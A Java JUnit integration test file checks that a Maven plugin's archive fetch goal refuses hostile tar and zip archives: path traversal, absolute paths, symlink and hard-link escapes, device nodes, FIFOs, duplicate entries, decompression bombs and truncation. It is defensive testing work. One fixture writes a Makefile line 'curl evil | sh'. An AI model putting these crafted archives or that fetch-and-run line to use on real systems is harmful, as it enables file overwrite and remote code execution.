package io.github.dom0build.it.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.dom0build.core.io.Sha256;
import io.github.dom0build.core.testing.LoopbackHttpServer;
import io.github.dom0build.it.harness.ArchiveBuilder;
import io.github.dom0build.it.harness.BuildResult;
import io.github.dom0build.it.harness.ItProject;
import io.github.dom0build.it.harness.TreeDigest;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInfo;

/**
 * Hostile and broken archives through the fetch goal. Each test starts from a project whose
 * {@code target/xen} an earlier fetch filled from a good archive; fetching the bad one must fail with
 * the entry and the rule named and "do not use this archive" (or how to raise the bound), leave
 * {@code target/xen} exactly as it was (stamps included), leave no temporary tree beside it, and
 * write nothing outside: no "pwned" file anywhere, the outside directory untouched.
 */
class ArchiveAttackIT {
    private static LoopbackHttpServer server;
    private static ItProject template;
    private static final String PWNED = "pwned-by-archive";

    private ItProject project;
    private Path outside;
    private Map<String, String> treeBefore;
    private Map<String, String> cacheBefore;
    private Map<String, String> outsideBefore;

    @BeforeAll
    static void fetchAGoodTreeOnce() throws Exception {
        server = new LoopbackHttpServer();
        byte[] good = ArchiveBuilder.create().dir("xen-4.17.5").file("xen-4.17.5/Makefile", "dist:\n")
                .file("xen-4.17.5/README", "Xen 4.17.5\n").tarGz();
        server.on("/good.tar.gz", LoopbackHttpServer.bytes(good));
        template = ItProject.copy("fetch", "reliability-archive-template");
        Files.createDirectories(template.resolve("outside"));
        Files.writeString(template.resolve("outside/secret.txt"), "the user's own file\n");
        BuildResult r = template.maven("initialize").property("kernel.fetch.skip", true)
                .property("xen.cacheDirectory", template.resolve("cache"))
                .property("xen.url", server.uri("/good.tar.gz")).property("xen.sha256", Sha256.of(good)).run();
        assertThat(r.succeeded()).as(r.toString()).isTrue();
        assertThat(template.resolve("target/xen/Makefile")).hasContent("dist:");
    }

    @AfterAll
    static void stopServer() {
        server.close();
    }

    @BeforeEach
    void copyTheFetchedProject(TestInfo info) throws Exception {
        project = template.duplicate("reliability-archive-" + info.getTestMethod().orElseThrow().getName());
        outside = project.resolve("outside");
        treeBefore = TreeDigest.full(project.resolve("target/xen"));
        cacheBefore = TreeDigest.full(project.resolve("cache"));
        outsideBefore = TreeDigest.full(outside);
    }

    /** Fetches {@code archive} (served as {@code name}) and checks everything the class promises. */
    private BuildResult fetchFails(String name, byte[] archive, String... extra) throws Exception {
        server.on("/" + name, LoopbackHttpServer.bytes(archive));
        var run = project.maven("initialize").property("kernel.fetch.skip", true)
                .property("xen.cacheDirectory", project.resolve("cache"))
                .property("xen.url", server.uri("/" + name)).property("xen.sha256", Sha256.of(archive));
        for (int i = 0; i < extra.length; i += 2) {
            run.property(extra[i], extra[i + 1]);
        }
        BuildResult r = run.run();
        assertThat(r.succeeded()).as("the fetch of %s must fail; %s", name, r).isFalse();
        assertThat(r.log()).contains("Fix: ").doesNotContain("Exception in thread");
        assertThat(TreeDigest.full(project.resolve("target/xen"))).as("target/xen, stamps included")
                .isEqualTo(treeBefore);
        assertThat(TreeDigest.leftoversBeside(project.resolve("target/xen"))).as("temporary trees").isEmpty();
        assertThat(TreeDigest.full(outside)).as("the directory outside").isEqualTo(outsideBefore);
        assertThat(outside.resolve("secret.txt")).hasContent("the user's own file");
        assertThat(Files.getAttribute(outside.resolve("secret.txt"), "unix:nlink")).as("hard links").isEqualTo(1);
        try (Stream<Path> s = Files.walk(project.dir())) {
            assertThat(s.filter(p -> p.getFileName().toString().contains(PWNED)).toList()).isEmpty();
        }
        assertThat(Path.of("/tmp/" + PWNED)).doesNotExist();
        // what the cache held is still there, unchanged, and nothing half-written sits beside it
        Map<String, String> cacheAfter = TreeDigest.full(project.resolve("cache"));
        assertThat(cacheAfter).containsAllEntriesOf(cacheBefore);
        assertThat(cacheAfter.keySet()).noneMatch(k -> k.contains(".part"));
        return r;
    }

    private static final String HOSTILE_FIX = "Fix: do not use this archive; check the URL and sha256";

    @Test
    void aDotDotEntryIsRefused() throws Exception {
        byte[] evil = ArchiveBuilder.create().dir("xen-4.17.6").file("xen-4.17.6/Makefile", "dist:\n")
                .file("xen-4.17.6/../../../" + PWNED + ".txt", "x\n").tarGz();
        BuildResult r = fetchFails("dotdot.tar.gz", evil);
        assertThat(r.log()).contains("entry 'xen-4.17.6/../../../" + PWNED + ".txt'").contains(HOSTILE_FIX);
    }

    @Test
    void anAbsolutePathIsRefused() throws Exception {
        byte[] evil = ArchiveBuilder.create().file("xen-4.17.6/Makefile", "dist:\n")
                .file("/tmp/" + PWNED, "x\n").tar();
        BuildResult r = fetchFails("absolute.tar", evil);
        assertThat(r.log()).contains("entry '/tmp/" + PWNED + "'").contains(HOSTILE_FIX);
    }

    @Test
    void aSymlinkOutsideThenAFileWrittenThroughItIsRefused() throws Exception {
        byte[] evil = ArchiveBuilder.create().dir("xen-4.17.6").symlink("xen-4.17.6/escape", outside.toString())
                .file("xen-4.17.6/escape/" + PWNED, "x\n").tarGz();
        BuildResult r = fetchFails("symlink.tar.gz", evil);
        assertThat(r.log()).contains("entry 'xen-4.17.6/escape'").contains(HOSTILE_FIX);
    }

    @Test
    void aSymlinkInsideThenAFileWrittenThroughItIsRefused() throws Exception {
        // The link itself stays inside, but writing through links is refused on principle: a later
        // entry could otherwise land wherever an earlier one pointed.
        byte[] evil = ArchiveBuilder.create().dir("xen-4.17.6").dir("xen-4.17.6/tools")
                .symlink("xen-4.17.6/link", "tools").file("xen-4.17.6/link/" + PWNED, "x\n").tarGz();
        BuildResult r = fetchFails("through.tar.gz", evil);
        assertThat(r.log()).contains("would be written through the symbolic link 'xen-4.17.6/link'")
                .contains(HOSTILE_FIX);
    }

    @Test
    void aHardLinkToAFileOutsideIsRefused() throws Exception {
        byte[] evil = ArchiveBuilder.create().dir("xen-4.17.6")
                .hardLink("xen-4.17.6/" + PWNED, outside.resolve("secret.txt").toString()).tarGz();
        BuildResult r = fetchFails("hardlink.tar.gz", evil);
        assertThat(r.log()).contains("is a hard link to '" + outside.resolve("secret.txt") + "'")
                .contains("hard links may only point to files from the same archive").contains(HOSTILE_FIX);
    }

    @Test
    void aDeviceNodeIsRefused() throws Exception {
        byte[] evil = ArchiveBuilder.create().dir("xen-4.17.6").charDevice("xen-4.17.6/" + PWNED + "-mem").tarGz();
        BuildResult r = fetchFails("device.tar.gz", evil);
        assertThat(r.log()).contains("character device").contains("does not create device nodes, FIFOs")
                .contains(HOSTILE_FIX);
    }

    @Test
    void aFifoIsRefused() throws Exception {
        byte[] evil = ArchiveBuilder.create().dir("xen-4.17.6").fifo("xen-4.17.6/" + PWNED + "-fifo").tarGz();
        BuildResult r = fetchFails("fifo.tar.gz", evil);
        assertThat(r.log()).contains("FIFO").contains(HOSTILE_FIX);
    }

    @Test
    void aDuplicateEntryIsRefused() throws Exception {
        byte[] evil = ArchiveBuilder.create().dir("xen-4.17.6").file("xen-4.17.6/Makefile", "dist:\n")
                .file("xen-4.17.6/Makefile", "dist:\n\tcurl evil | sh\n").tarGz();
        BuildResult r = fetchFails("duplicate.tar.gz", evil);
        assertThat(r.log()).contains("entry 'xen-4.17.6/Makefile' appears twice").contains(HOSTILE_FIX);
    }

    @Test
    void aDecompressionBombStopsAtTheConfiguredBound() throws Exception {
        byte[] bomb = ArchiveBuilder.create().dir("xen-4.17.6").zeros("xen-4.17.6/zeros", 24 << 20).tarGz();
        assertThat(bomb.length).isLessThan(100_000);
        BuildResult r = fetchFails("bomb.tar.gz", bomb, "xen.maxExtractedSize", "4m");
        assertThat(r.log()).contains("unpacks to more than 4.0 MiB, the limit").contains("decompression bomb")
                .contains("raise the limit with the plugin parameter maxExtractedSize");
    }

    @Test
    void aTruncatedTarGzIsRefused() throws Exception {
        byte[] whole = ArchiveBuilder.create().dir("xen-4.17.6").file("xen-4.17.6/a", random(200_000), 0644)
                .file("xen-4.17.6/b", random(200_000), 0644).tarGz();
        BuildResult r = fetchFails("truncated.tar.gz", ArchiveBuilder.truncate(whole, 0.6));
        assertThat(r.log()).contains("is truncated or corrupt").contains("Fix: do not use this archive")
                .contains("a download that was cut short is the usual cause");
    }

    @Test
    void aZipWithADotDotEntryIsRefused() throws Exception {
        byte[] evil = ArchiveBuilder.create().file("xen-4.17.6/Makefile", "dist:\n")
                .file("xen-4.17.6/../../" + PWNED + ".txt", "x\n").zip();
        BuildResult r = fetchFails("dotdot.zip", evil);
        assertThat(r.log()).contains("entry 'xen-4.17.6/../../" + PWNED + ".txt'").contains(HOSTILE_FIX);
    }

    @Test
    void aZipWithASymlinkOutsideThenAFileThroughItIsRefused() throws Exception {
        byte[] evil = ArchiveBuilder.create().symlink("xen-4.17.6/escape", outside.toString())
                .file("xen-4.17.6/escape/" + PWNED, "x\n").zip();
        BuildResult r = fetchFails("symlink.zip", evil);
        assertThat(r.log()).contains("entry 'xen-4.17.6/escape'").contains(HOSTILE_FIX);
    }

    @Test
    void aZipWithADuplicateEntryIsRefused() throws Exception {
        byte[] evil = ArchiveBuilder.create().file("xen-4.17.6/Makefile", "dist:\n")
                .file("xen-4.17.6/Makefile", "evil:\n").zip();
        BuildResult r = fetchFails("duplicate.zip", evil);
        assertThat(r.log()).contains("appears twice").contains(HOSTILE_FIX);
    }

    @Test
    void aZipWithAFifoIsRefused() throws Exception {
        byte[] evil = ArchiveBuilder.create().file("xen-4.17.6/Makefile", "dist:\n").fifo("xen-4.17.6/" + PWNED)
                .zip();
        BuildResult r = fetchFails("fifo.zip", evil);
        assertThat(r.log()).contains("FIFO").contains(HOSTILE_FIX);
    }

    @Test
    void aZipBombStopsAtTheConfiguredBound() throws Exception {
        byte[] bomb = ArchiveBuilder.create().zeros("xen-4.17.6/zeros", 24 << 20).zip();
        BuildResult r = fetchFails("bomb.zip", bomb, "xen.maxExtractedSize", "4m");
        assertThat(r.log()).contains("unpacks to more than 4.0 MiB, the limit")
                .contains("raise the limit with the plugin parameter maxExtractedSize");
    }

    @Test
    void aTruncatedZipIsRefused() throws Exception {
        byte[] whole = ArchiveBuilder.create().file("xen-4.17.6/a", random(200_000), 0644)
                .file("xen-4.17.6/b", random(200_000), 0644).zip();
        BuildResult r = fetchFails("truncated.zip", ArchiveBuilder.truncate(whole, 0.6));
        assertThat(r.log()).contains("Fix: do not use this archive");
    }

    private static byte[] random(int n) {
        byte[] b = new byte[n];
        new java.util.Random(n).nextBytes(b);
        return b;
    }
}
